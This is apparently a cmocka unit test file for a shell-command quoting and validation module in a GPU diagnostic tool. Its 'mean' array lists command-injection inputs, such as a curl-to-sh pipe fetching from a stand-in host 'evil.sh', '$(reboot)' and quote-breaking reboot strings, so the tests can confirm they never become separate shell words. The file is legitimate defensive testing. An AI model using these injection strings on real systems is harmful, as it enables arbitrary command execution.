// Commands: hostile values never become words of their own. The same check as the fuzz target's, with values that are known to be mean.
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "base/print.h"
#include "command_check.h"

static const char *const mean[] = {
	"9;curl${IFS}evil.sh|sh",
	"$(reboot)",
	"`reboot`",
	"a b",
	"a\nreboot",
	"'; reboot; '",
	"\"; reboot; \"",
	"\\",
	"a\\'b",
	"-rf",
	"#",
	"~root",
	"*",
	"a&b",
	"a>b",
	"!!",
	"{a,b}",
	"=ls",
	"a\x1b[2Jb",
	"a\xe2\x80\xae"
	"b",
	"\x80",
	"a=b;c",
	"",
};
enum { MEAN = ARRAY_SIZE(mean) };
static const char *const plain[] = {
	"amdgpu.runpm", "0", "-1", "/etc/modprobe.d/a.conf:1", "4711", "0000:03:00.0", "gfx_0.0.0"
};
enum { PLAIN = ARRAY_SIZE(plain) };

static void words_of_knowledge(void **state)
{
	struct know *k = know_load(&(struct know_problems){ 0 });
	static struct command_texts texts;
	(void)state;
	command_texts_find(k, &texts);
	assert_true(texts.n > 100);
	for (size_t how = 0; how < 25; how++)
		for (size_t m = 0; m < MEAN; m++) {
			struct text input = { 0 };
			text_printf(&input, "%c%c%s\xff%s\xff%s", (int)how, (int)(m + how), plain[(m + how) % PLAIN], mean[m],
				    mean[(m * 7 + how) % MEAN]);
			const char *wrong = command_complaint(k, &texts, text_str(&input));
			if (wrong)
				fail_msg("%s: %zu, %s", wrong, how, mean[m]);
			text_free(&input);
		}
	// A ~ within a version is no home, wherever the version stands.
	for (char part = 0; part < 16; part++)
		assert_null(command_complaint(k, &texts, (struct str){ (char[]){ 0, part, '1', '~', 'a' }, 5 }));
	know_free(k);
}

static void check_type(enum piece_type type, const char *value, bool good)
{
	struct arena a = { 0 };
	const struct command *c = COMMAND_OF(&a, "x ", type, str_z(value));
	if ((c != NULL) != good || piece_plain(type, str_z(value)) != good)
		fail_msg("type %d: %s", (int)type, value);
	arena_free(&a);
}

static void types(void **state)
{
	(void)state;
	for (size_t m = 0; m < MEAN; m++)
		for (enum piece_type type = PIECE_WORD; type < PIECE_PATH; type++)
			check_type(type, mean[m],
				   (type == PIECE_WORDS && !strcmp(mean[m], "a b")) ||
					   (type == PIECE_PARAMETER && !strcmp(mean[m], "-rf")));
	check_type(PIECE_NUMBER, "4711", true);
	check_type(PIECE_NUMBER, "0xfff7ffff", true);
	check_type(PIECE_NUMBER, "-1", true);
	check_type(PIECE_NUMBER, "1e5", false);
	check_type(PIECE_PCI, "0000:03:00.0", true);
	check_type(PIECE_PCI, "0000:03:00.0.", false);
	check_type(PIECE_PCI, "0000:03:00", false);
	check_type(PIECE_PCI, "03:00.0", false);
	check_type(PIECE_NAME, "amdgpu.cwsr_enable", true);
	check_type(PIECE_NAME, "a=b", false);
	check_type(PIECE_NAME, "sudo,docker", false);
	check_type(PIECE_NAME, "0", false);
	check_type(PIECE_PARAMETER, "amdgpu.lockup_timeout=-1,10000", true);
	check_type(PIECE_WORD, "amdgpu/gc_11_0_0_mes.bin", true);
	check_type(PIECE_WORDS, "16.0 GT/s PCIe", true);
	check_type(PIECE_WORDS, "a  b", false);
	check_type(PIECE_WORDS, "a -b", false);
	check_type(PIECE_VERSION, "1:24.2.8-1~bpo12+1", true);
	check_type(PIECE_VERSION, "25.0.7-0ubuntu0.24.04.1", true);
	check_type(PIECE_VERSION, "~root", false);
	check_type(PIECE_VERSION, "1:~root", false);
	check_type(PIECE_VERSION, "1=2", false);
	check_type(PIECE_VERSION, "-rf", false);
}

static void check_path(const char *path, const char *wanted)
{
	struct arena a = { 0 };
	const struct command *c = COMMAND_OF(&a, "tac ", PIECE_PATH, str_z(path));
	assert_int_equal(c != NULL, wanted != NULL);
	if (wanted)
		assert_true(str_is(command_str(c), wanted));
	arena_free(&a);
}

static void paths(void **state)
{
	(void)state;
	check_path("/var/log/kern.log", "tac /var/log/kern.log");
	check_path("my log.txt", "tac 'my log.txt'");
	check_path("it's", "tac 'it'\\''s'");
	check_path("$(reboot)", "tac '$(reboot)'");
	check_path("-n", "tac ./-n");
	check_path("a\nb", NULL);
	check_path("a\xe2\x80\xae"
		   "b",
		   NULL);
	check_path("\xff", NULL);
	check_path("", NULL);
}

/** The splitter that the checks rest on. */
static void check_words(const char *text, const char *joined)
{
	struct command_words w;
	command_split(&w, str_z(text));
	for (size_t i = 0; i < w.used; i++)
		if (!w.bytes[i])
			w.bytes[i] = '|';
	if (!str_eq((struct str){ w.bytes, w.used }, str_z(joined)))
		fail_msg("%s: " STR_FMT, text, (int)w.used, w.bytes);
}

static void splitter(void **state)
{
	(void)state;
	check_words("a  b\tc", "a|b|c|");
	check_words("a'b c'\"d e\"\\ f", "ab cd e f|");
	check_words("a;b", "a|\x01;|b|");
	check_words("'$a' \"$a\" \"\\$a\"", "$a|\x01$a|$a|");
	check_words("a #b c", "a|");
	check_words("a#b '' *", "a#b||\x01*|");
}

/** Steps whose alternatives and blanks are as they are told. */
static bool one_fact(const void *ctx, struct str name, size_t index, struct str *ret)
{
	*ret = str_z(ctx);
	return !index && str_is(name, "value");
}

static void check_step(const struct know *k, const char *text, const char *value, enum fill_mode mode, const char *wanted)
{
	struct arena a = { 0 };
	const struct fact_view view = { one_fact, value, NULL };
	const struct command *c = steps_fill(&a, k, str_z(text), &view, mode);
	if (!str_eq(command_str(c), wanted ? str_z(wanted) : (struct str){ 0 }))
		fail_msg("%s with %s: " STR_FMT, text, value, STR_ARG(command_str(c)));
	arena_free(&a);
}

static void steps(void **state)
{
	struct know *k = know_load(&(struct know_problems){ 0 });
	(void)state;
	check_step(k, "a --b={value} || other", "1", FILL_ALTERNATIVES, "a --b=1");
	check_step(k, "a --b={value} || other", "1;x", FILL_ALTERNATIVES, "other");
	check_step(k, "a --b={value} || c {value}", "1;x", FILL_ALTERNATIVES, "a --b=VALUE");
	check_step(k, "a {other} || c {value}", "1", FILL_ALTERNATIVES, "c 1");
	check_step(k, "a {other}", "1", FILL_ALTERNATIVES, NULL);
	check_step(k, "a {other} || b {value}", "$x", FILL_BLANKS, "a OTHER || b VALUE");
	check_step(k, "f '{{.State}}' {} {k: v} {value}", "1", FILL_BLANKS, "f '{{.State}}' {} {k: v} 1");
	check_step(k, "cat {value@}", "1", FILL_BLANKS, "cat VALUE_FILE");
	know_free(k);
}

/** What a terminal gets. */
static void check_shown(const char *bytes, const char *wanted)
{
	struct text t = { 0 };
	text_add_safe(&t, str_z(bytes));
	if (!str_is(text_str(&t), wanted))
		fail_msg("'%s' is shown as '" STR_FMT "'", bytes, STR_ARG(text_str(&t)));
	assert_int_equal(print_is_safe(str_z(bytes)), !strcmp(bytes, wanted));
	text_free(&t);
}

static size_t encode(uint32_t point, char room[static 5])
{
	size_t n = point < 0x80 ? 1 : point < 0x800 ? 2 : point < 0x10000 ? 3 : 4;
	static const unsigned char first[] = { 0, 0, 0xc0, 0xe0, 0xf0 };
	for (size_t i = n; i-- > 1; point >>= 6)
		room[i] = (char)(0x80 | (point & 0x3f));
	room[0] = (char)(first[n] | point);
	room[n] = 0;
	return n;
}

/** What is pasted with its line breaks runs line by line. */
static void no_line_of_a_step_begins_with_a_path(void **state)
{
	(void)state;
	for (size_t width = 10; width < 90; width++) {
		char *text = NULL;
		size_t n;
		FILE *out = open_memstream(&text, &n);
		print_wrapped(out, S("sudo ls -l /opt/rocm-5.0.0-a-long-name/bin/rocgdb '/a b/c' and then see /etc/group"), 4,
			      8, width);
		fclose(out);
		struct str rest = { text, n };
		while (rest.n) {
			struct str line = str_trim(str_split(&rest, '\n'));
			assert_false(str_starts(line, S("/")) || str_starts(line, S("'/")));
		}
		free(text);
	}
}

static void format_characters(void **state)
{
	static const uint32_t unseen[][2] = {
		{ 0xad, 0xad },     { 0x600, 0x605 },   { 0x61c, 0x61c },     { 0x180e, 0x180e },
		{ 0x200b, 0x200f }, { 0x2028, 0x202e }, { 0x2060, 0x2064 },   { 0x2066, 0x206f },
		{ 0xfeff, 0xfeff }, { 0xfff9, 0xfffb }, { 0xe0001, 0xe0001 }, { 0xe0020, 0xe007f }
	};
	static const uint32_t seen[] = { 'a', 0xa0, 0xe4, 0x627, 0x2010, 0x2027, 0x202f, 0x3042, 0xfffd, 0x1f600 };
	char bytes[5], all[8], wanted[8];
	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(unseen); i++)
		for (uint32_t point = unseen[i][0]; point <= unseen[i][1]; point++) {
			encode(point, bytes);
			snprintf(all, sizeof(all), "a%sb", bytes);
			check_shown(all, "a?b");
		}
	for (size_t i = 0; i < ARRAY_SIZE(seen); i++) {
		encode(seen[i], bytes);
		snprintf(wanted, sizeof(wanted), "a%sb", bytes);
		check_shown(wanted, wanted);
	}
	check_shown("a\tb\x1b\x7f\xc2\x9b", "a b   ");
	check_shown("\xff\xe2\x80", "???");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(splitter),
		cmocka_unit_test(types),
		cmocka_unit_test(paths),
		cmocka_unit_test(steps),
		cmocka_unit_test(words_of_knowledge),
		cmocka_unit_test(no_line_of_a_step_begins_with_a_path),
		cmocka_unit_test(format_characters),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
